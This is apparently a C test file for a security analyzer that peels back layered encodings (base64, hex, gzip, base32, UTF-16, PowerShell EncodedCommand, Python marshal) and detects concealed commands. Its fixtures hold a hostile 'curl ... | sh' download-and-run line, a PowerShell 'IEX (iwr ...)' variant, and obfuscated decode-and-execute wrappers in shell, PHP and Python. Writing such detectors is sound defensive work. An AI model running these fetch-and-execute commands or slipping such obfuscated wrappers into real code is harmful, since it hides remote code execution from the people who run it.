// SPDX-License-Identifier: Apache-2.0
/* Texts wrapped in the test itself; what comes out is told by the shell analyzer's facts. */
#include <time.h>
#include <zlib.h>

#include "base/cleanup.h"
#include "inspect/unwrap.h"
#include "inspect/test-facts.h"

static void look(struct str content)
{
    static const char *const only[] = {"script", "unwrap", NULL};
    look_with(&(struct inspect_options){.only = only}, NULL, content, &facts);
}

/* The inner text of every case, and its commands. */
#define INNER "curl -s http://192.0.2.1/davy-test-imitation | sh\n"

static void encode(struct strbuf *b, struct str s)
{
    static const char CODE[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    for (size_t i = 0; i < s.n; i += 3) {
        uint32_t v = 0;
        for (size_t k = 0; k < 3; k++)
            v = v << 8 | (i + k < s.n ? (uint8_t)s.p[i + k] : 0);
        for (unsigned k = 0; k < 4; k++)
            strbuf_addc(b, i + k <= s.n ? CODE[v >> (18 - 6 * k) & 63] : '=');
    }
}

static void zip(struct strbuf *b, struct str s, int window)
{
    uint8_t out[65536];
    z_stream z = {
        .next_in = (z_const Bytef *)s.p, .avail_in = (uInt)s.n, .next_out = out, .avail_out = sizeof(out)};
    CHECK(deflateInit2(&z, 9, Z_DEFLATED, window, 8, Z_DEFAULT_STRATEGY) == Z_OK);
    CHECK(deflate(&z, Z_FINISH) == Z_STREAM_END);
    deflateEnd(&z);
    strbuf_add(b, str_n(out, sizeof(out) - z.avail_out));
}

TEST(base64_in_a_script)
{
    _cleanup_(strbuf_done) struct strbuf b = {};
    strbuf_adds(&b, "#!/bin/sh\necho ");
    encode(&b, STR(INNER));
    strbuf_adds(&b, " | base64 -d | sh\n");
    look(strbuf_str(&b));
    CHECK_CSTR(list(F_UNWRAP_CHAINS), "(base64)");
    CHECK_INT(facts_get(&facts, F_UNWRAP_LAYERS)->u, 1);
    CHECK_CSTR(list(F_SCRIPT_DOWNLOADS), "(http://192.0.2.1/davy-test-imitation)");
    CHECK(facts_get(&facts, F_SCRIPT_DECODE_RUN)->b);
}

TEST(base64_over_lines)
{
    _cleanup_(strbuf_done) struct strbuf b = {}, e = {};
    encode(&e, STR("true; true; true; true; true; true; true; true; true; true; true; true;\n" INNER));
    for (size_t i = 0; i < e.n; i += 76) {
        strbuf_add(&b, str_sub(strbuf_str(&e), i, i + 76));
        strbuf_addc(&b, '\n');
    }
    look(strbuf_str(&b));
    CHECK_CSTR(list(F_UNWRAP_CHAINS), "(base64)");
}

TEST(every_single_encoding)
{
    static const char HEX[] = "0123456789abcdef";
    _cleanup_(strbuf_done) struct strbuf b = {};
    struct str s = STR(INNER);
    strbuf_adds(&b, "data = ");
    for (size_t i = 0; i < s.n; i++)
        strbuf_printf(&b, "%c%c", HEX[s.p[i] >> 4], HEX[s.p[i] & 15]);
    look(strbuf_str(&b));
    CHECK_CSTR(list(F_UNWRAP_CHAINS), "(hex)");
    strbuf_clear(&b);
    for (size_t i = 0; i < s.n; i++)
        strbuf_printf(&b, i % 2 ? "\\%03o" : "\\x%02x", s.p[i]);
    look(strbuf_str(&b));
    CHECK_CSTR(list(F_UNWRAP_CHAINS), "(escapes)");
    strbuf_clear(&b);
    for (size_t i = 0; i < s.n; i++)
        strbuf_printf(&b, i % 3 ? "%%%02X" : "%%%02x", s.p[i]);
    look(strbuf_str(&b));
    CHECK_CSTR(list(F_UNWRAP_CHAINS), "(percent)");
    strbuf_clear(&b);
    strbuf_adds(&b, "echo '");
    for (size_t i = s.n - 1; i-- > 0;)
        strbuf_addc(&b, s.p[i]);
    strbuf_adds(&b, "' | rev | bash\n");
    look(strbuf_str(&b));
    CHECK_CSTR(list(F_UNWRAP_CHAINS), "(rev)");
}

TEST(deflated_and_base32)
{
    static const char CODE[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
    _cleanup_(strbuf_done) struct strbuf z = {}, b = {}, e = {};
    zip(&z, STR(INNER INNER "true\n"), -15);
    encode(&e, strbuf_str(&z));
    strbuf_printf(&b, "<?php eval(gzinflate(base64_decode('%.*s')));", STR_ARG(strbuf_str(&e)));
    look(strbuf_str(&b));
    CHECK_CSTR(list(F_UNWRAP_CHAINS), "(base64>deflate)");
    /* noise that nobody says is deflated is left alone */
    strbuf_clear(&b);
    strbuf_printf(&b, "<?php $key = '%.*s';", STR_ARG(strbuf_str(&e)));
    look(strbuf_str(&b));
    CHECK(!facts_has(&facts, F_UNWRAP_CHAINS));
    strbuf_clear(&b);
    strbuf_adds(&b, "#!/bin/sh\necho ");
    uint32_t bits = 0, n = 0;
    for (const char *p = INNER; *p || n; n -= 5) {
        if (n < 5 && *p) {
            bits = bits << 8 | (uint8_t)*p++;
            n += 8;
        } else if (n < 5) {
            bits <<= 5 - n;
            n = 5;
        }
        strbuf_addc(&b, CODE[bits >> (n - 5) & 31]);
    }
    size_t plain = b.n;
    strbuf_adds(&b, " | base32 -d | sh\n");
    look(strbuf_str(&b));
    CHECK_CSTR(list(F_UNWRAP_CHAINS), "(base32)");
    CHECK(facts_get(&facts, F_SCRIPT_DECODE_RUN)->b);
    look(str_sub(strbuf_str(&b), 0, plain));
    CHECK(!facts_has(&facts, F_UNWRAP_CHAINS));
}

TEST(layers_within_layers)
{
    _cleanup_(strbuf_done) struct strbuf z = {}, b = {}, again = {};
    zip(&z, STR(INNER), 15 + 16);
    encode(&b, strbuf_str(&z));
    encode(&again, strbuf_str(&b));
    look(strbuf_str(&again));
    CHECK_CSTR(list(F_UNWRAP_CHAINS), "(base64,base64>base64,base64>base64>gzip)");
    CHECK_INT(facts_get(&facts, F_UNWRAP_LAYERS)->u, 3);
    CHECK_CSTR(list(F_SCRIPT_DOWNLOADS), "(http://192.0.2.1/davy-test-imitation)");
}

TEST(pythons_reversed_zlib)
{
    _cleanup_(strbuf_done) struct strbuf z = {}, e = {}, b = {};
    zip(&z, STR(INNER), 15);
    encode(&e, strbuf_str(&z));
    strbuf_adds(&b, "exec((lambda x: zlib.decompress(base64.b64decode(x[::-1])))(b'");
    for (size_t i = e.n; i > 0; i--)
        strbuf_addc(&b, e.p[i - 1]);
    strbuf_adds(&b, "'))\n");
    look(strbuf_str(&b));
    CHECK_CSTR(list(F_UNWRAP_CHAINS), "(rev>base64,rev>base64>zlib)");
}

TEST(an_archive_behind_a_script)
{
    _cleanup_(strbuf_done) struct strbuf b = {};
    strbuf_adds(&b, "#!/bin/sh\ntail -n +4 \"$0\" | gzip -dc > /tmp/x\nexit 0\n");
    zip(&b, STR(INNER), 15 + 16);
    look(strbuf_str(&b));
    CHECK_CSTR(list(F_UNWRAP_CHAINS), "(gzip)");
}

TEST(noise_costs_nothing)
{
    static const char *const CASES[] = {
        ("-----BEGIN "
         "CERTIFICATE-----\nMIIDdzCCAl+"
         "gAwIBAgIEbXXXXTANBgkqhkiG9w0BAQUFADBsMRAwDgYDVQQGEwdV\nbmtub3duMRAw\n"),
        "sha256: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\n",
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk\n",
        "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7hVrKSdIVQzT0jS6vfUnn0Xg3mWb3cXZ user\n",
        "/usr/lib/python3/dist-packages/setuptools/_vendor/importlib_resources/abc\n",
        "aVeryLongIdentifierInCamelCaseThatIsNoBase64AtAll\n",
        "https://example.org/a%20b%20c?q=%E3%81%82\n",
    };
    for (size_t i = 0; i < ARRAY_SIZE(CASES); i++) {
        look(str_from(CASES[i]));
        if (facts_has(&facts, F_UNWRAP_CHAINS))
            test_fail(__FILE__, __LINE__, "%s in: %s", list(F_UNWRAP_CHAINS), CASES[i]);
    }
}

TEST(a_bomb_is_cut_and_counted)
{
    _cleanup_(strbuf_done) struct strbuf packed = {}, b = {}, zeros = {};
    /* 40 MB of zeros, in members of 1 MB */
    strbuf_pad(&zeros, 0, 1 << 20);
    for (int i = 0; i < 40; i++)
        zip(&packed, strbuf_str(&zeros), 15 + 16);
    encode(&b, strbuf_str(&packed));
    look(strbuf_str(&b));
    CHECK_INT(facts_get(&facts, F_UNWRAP_REFUSED)->u, 1);
    CHECK_CSTR(list(F_UNWRAP_CHAINS), "(base64,base64>gzip)");
}

TEST(depth_is_bounded)
{
    _cleanup_(strbuf_done) struct strbuf a = {}, b = {};
    strbuf_adds(&a, INNER);
    for (int i = 0; i < 12; i++) {
        strbuf_clear(&b);
        encode(&b, strbuf_str(&a));
        strbuf_clear(&a);
        strbuf_add(&a, strbuf_str(&b));
    }
    look(strbuf_str(&a));
    CHECK_INT(facts_get(&facts, F_UNWRAP_LAYERS)->u, INSPECT_DEPTH_MAX);
    CHECK(!facts_has(&facts, F_SCRIPT_DOWNLOADS));
}

TEST(hostile_text_takes_linear_time)
{
    static const char *const UNITS[] = {
        "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo= ", "=", "%41", "\\x41", "41", "A", " | rev", "'|rev",
        "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo\n", "%", "\\"};
    _cleanup_(strbuf_done) struct strbuf b = {};
    for (size_t i = 0; i < ARRAY_SIZE(UNITS); i++) {
        strbuf_clear(&b);
        while (b.n < 1000000)
            strbuf_adds(&b, UNITS[i]);
        clock_t before = clock();
        look(strbuf_str(&b));
        CHECK(clock() - before < 2 * CLOCKS_PER_SEC);
    }
}

TEST(utf16_of_either_order)
{
    enum { ASCII = sizeof("#!/bin/sh\n" INNER) - 1 };
    static const char TEXT[] = "#!/bin/sh\n" INNER "\xc3\xa9\xe2\x82\xac\xf0\x9f\x98\x80\n";
    for (int big = 0; big < 2; big++) {
        _cleanup_(strbuf_done) struct strbuf b = {};
        static const uint16_t WIDE[] = {0xfeff, 0xe9, 0x20ac, 0xd83d, 0xde00, '\n'};
        for (size_t i = 0; i < 1 + ASCII + ARRAY_SIZE(WIDE) - 1; i++) {
            uint16_t v = !i ? WIDE[0] : i <= ASCII ? (uint8_t)TEXT[i - 1] : WIDE[i - ASCII];
            strbuf_addc(&b, (char)(big ? v >> 8 : v & 0xff));
            strbuf_addc(&b, (char)(big ? v & 0xff : v >> 8));
        }
        look(strbuf_str(&b));
        CHECK_CSTR(list(F_UNWRAP_CHAINS), "(utf16)");
        CHECK_CSTR(list(F_SCRIPT_DOWNLOADS), "(http://192.0.2.1/davy-test-imitation)");
    }
    look(STR("\xff\xfe\x00\xd8\x41\x00\x42\x00")); /* half a pair */
    CHECK(!facts_has(&facts, F_UNWRAP_CHAINS));
}

/* Texts of two bytes a letter: what PowerShell is given, and those of programs of .NET. */
TEST(wide_texts)
{
    static const char INNER_POWER[] = "IEX (iwr http://192.0.2.1/davy-test-imitation).Content";
    _cleanup_(strbuf_done) struct strbuf wide = {}, b = {};
    for (size_t i = 0; INNER_POWER[i]; i++) {
        strbuf_addc(&wide, INNER_POWER[i]);
        strbuf_addc(&wide, 0);
    }
    strbuf_adds(&b, "#!/bin/sh\npwsh -EncodedCommand ");
    encode(&b, strbuf_str(&wide));
    look(strbuf_str(&b));
    CHECK_CSTR(list(F_UNWRAP_CHAINS), "(base64>utf16)");
    CHECK_CSTR(list(F_SCRIPT_DOWNLOADS), "(http://192.0.2.1/davy-test-imitation)");
    CHECK(flag(F_SCRIPT_DECODE_RUN) && flag(F_SCRIPT_DOWNLOAD_RUN));

    static const char *const MARKS[] = {"BSJB", "XXXX"};
    for (size_t k = 0; k < ARRAY_SIZE(MARKS); k++) {
        strbuf_clear(&b);
        strbuf_add(&b, str_n("\x7f" "ELF\2\1\1\0\0\0\0\0\0\0\0\0", 16));
        strbuf_adds(&b, MARKS[k]);
        strbuf_add(&b, str_n("\0\7", 2));
        strbuf_add(&b, strbuf_str(&wide));
        strbuf_add(&b, str_n("\1a\0b\0\1\0\0\0", 9));
        look(strbuf_str(&b));
        CHECK_CSTR(list(F_UNWRAP_CHAINS), k ? "<NA>" : "(utf16)");
    }
}

TEST(bytecode_in_base64)
{
    _cleanup_(strbuf_done) struct strbuf code = {}, b = {};
    strbuf_add(&code, str_n("\xe3\0\0\0\0\0\0\0\0\0\0\0\0\3\0\0\0\x40\0\0\0\xf3", 22));
    for (unsigned i = 0; i < 80; i++)
        strbuf_addc(&code, (char)(i * 37 + 129));
    for (unsigned k = 0; k < 2; k++) {
        strbuf_clear(&b);
        strbuf_adds(&b, k ? "import base64\nx = base64.b64decode('" : "import marshal, base64\nexec(marshal.loads(base64.b64decode('");
        encode(&b, strbuf_str(&code));
        strbuf_adds(&b, k ? "')\n" : "')))\n");
        look(strbuf_str(&b));
        CHECK_INT(strstr(list(F_UNWRAP_CHAINS), "base64>marshal") != NULL, !k);
    }
}
